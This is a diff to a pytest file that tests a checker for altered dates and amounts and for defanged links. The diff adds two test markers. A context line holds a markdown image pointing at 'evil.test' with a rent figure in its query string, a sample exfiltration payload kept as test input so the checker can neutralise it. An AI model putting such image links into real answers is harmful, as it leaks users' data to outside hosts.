@@ -43,6 +43,7 @@ def test_what_the_cited_text_says_is_not_flagged():
         assert flagged(answer) == [], answer
 
 
+@pytest.mark.proves("marked")
 def test_a_changed_fact_is_flagged():
     assert flagged("The lease of Hall 3 ends on 30 May 2030.") == [("date", "30 May 2030")]
     assert flagged("The yearly rent is EUR 58,000, payable in advance.") == [("amount", "EUR 58,000")]
@@ -172,6 +173,7 @@ def test_a_cited_link_stays_and_another_is_defanged():
     assert "https://foo.example" in asked.answer
 
 
+@pytest.mark.proves("documents-are-data")
 def test_images_and_links_never_stay_alive():
     for answer in (
         "The rent is EUR 48,000. ![rent](https://evil.test/?d=48000)",
